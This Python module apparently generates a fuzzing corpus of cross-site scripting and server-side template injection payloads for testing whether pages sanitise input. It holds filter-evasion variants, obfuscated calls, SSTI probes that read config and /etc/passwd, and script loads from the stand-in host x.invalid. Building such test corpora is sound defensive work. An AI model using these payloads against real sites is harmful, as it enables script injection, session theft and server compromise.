"""Texts that break careless pages: made from the parts of attacks, and read from lists where there are any."""

import html
import json
import os
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from urllib.parse import quote

# How a text may leave the place in which it stands.
CLOSINGS = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</style>",
    "</textarea>",
    "</div></div></article>",
)
ELEMENTS = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT >",
    "<script src=//x.invalid/a.js></script>",
    "<script type=module>import '//x.invalid/a.js'</script>",
    "<img src=x onerror={0}>",
    "<img/src=x/onerror={0}>",
    '<img src="x" srcset="//x.invalid/a 1x">',
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><use href=//x.invalid/a.svg#a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={0}&gt;'>",
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<iframe src='javascript:{0}'></iframe>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<object data='javascript:{0}'></object>",
    "<embed src='//x.invalid/a'>",
    "<a href='javascript:{0}' autofocus>x</a>",
    "<form action='//x.invalid/'><button autofocus>x</button></form>",
    "<button form=x formaction='javascript:{0}'>x</button>",
    "<link rel=stylesheet href=//x.invalid/a.css>",
    "<link rel=preload as=image href=//x.invalid/a.png>",
    "<style>@import '//x.invalid/a.css';*{{background:url(//x.invalid/b)}}</style>",
    "<meta http-equiv=refresh content='0;url=//x.invalid/'>",
    "<base href=//x.invalid/>",
    "<table background=//x.invalid/a><td background=//x.invalid/b>",
    "<marquee onstart={0}>x</marquee>",
    "<div style='background:url(//x.invalid/a)' onpointerover={0}>x</div>",
    "<template><img src=x onerror={0}></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<isindex type=image src=x onerror={0}>",
    "<x onclick={0} tabindex=1 onfocus={0} autofocus id=x>",
    "<!--[if gte IE 4]><script>{0}</script><![endif]-->",
    "<?xml-stylesheet href='javascript:{0}'?>",
    "<![CDATA[<script>{0}</script>]]>",
)
CALLS = (
    "alert(1)",
    "alert`1`",
    "eval(atob('YWxlcnQoMSk='))",
    "top[/al/.source+/ert/.source](1)",
    "import('//x.invalid/a')",
)
SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java&#115;cript:{0}",
    "data:text/html,<script>{0}</script>",
    "vbscript:{0}",
)
MARKDOWN = ("[x]({0})", "![x]({0})", "[x][1]\n\n[1]: {0}", "<{0}>", "[x]({0} 'x')", "x{{: href={0} onclick=alert(1) }}")
TEMPLATES = (
    "{{ 7*7 }}",
    "{% raw %}{{ x }}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.items() }}",
    "{% include '/etc/passwd' %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ request.application.__globals__ }}",
    "{# x #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${{7*7}}",
    "@(7*7)",
    "[[${7*7}]]",
    "{{constructor.constructor('alert(1)')()}}",
    "{php}echo 7*7;{/php}",
)


def _encoded(text: str) -> Iterator[str]:
    """The same text as careless programs undo it once too often."""
    yield html.escape(text)
    yield html.escape(html.escape(text))
    yield quote(text)
    yield "".join(f"&#{ord(sign)};" for sign in text)
    yield "".join(f"&#x{ord(sign):07x}" for sign in text)
    yield "".join(f"\\u{ord(sign):04x}" for sign in text)
    yield text.replace("<", "\uff1c").replace(">", "\uff1e")
    yield text.replace("<", "%u003c").replace(">", "%u003e")


def made() -> Iterator[str]:
    """Every closing with every element and call, the schemes in Markdown, the templates, and encodings of some."""
    for closing, element, call in product(CLOSINGS, ELEMENTS, CALLS):
        yield closing + element.format(call)
    for form, scheme, call in product(MARKDOWN, SCHEMES, CALLS):
        yield form.format(scheme.format(call))
    yield from TEMPLATES
    for element in ELEMENTS:
        yield from _encoded(element.format("alert(1)"))


def listed() -> Iterator[list[str]]:
    """The lists in the folder that HOSTILE_LISTS names: JSON lists of texts, or a text on each line."""
    folder = os.environ.get("HOSTILE_LISTS")
    for path in sorted(Path(folder).iterdir()) if folder else ():
        text = path.read_text(encoding="utf-8", errors="replace")
        yield json.loads(text) if path.suffix == ".json" else text.splitlines()
